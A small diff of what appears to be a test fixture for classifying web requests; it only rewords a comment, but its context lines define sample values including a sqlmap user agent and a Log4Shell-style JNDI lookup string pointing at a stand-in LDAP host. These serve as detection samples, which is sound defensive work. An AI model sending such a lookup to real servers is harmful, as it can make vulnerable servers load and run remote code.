@@ -8,7 +8,7 @@ const SQLMAP = "sqlmap/1.8.4#stable (https://sqlmap.org)";
 const JNDI = "\u0024{jndi:ldap://x.example/a}";
 const CURL = "curl/8.5.0";
 const FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0";
-/** Of a mobile carrier, and of a privacy relay. */
+/** Addresses of a mobile carrier and of a privacy relay. */
 const CARRIER = "172.56.21.89";
 const RELAY = "45.155.208.130";
 
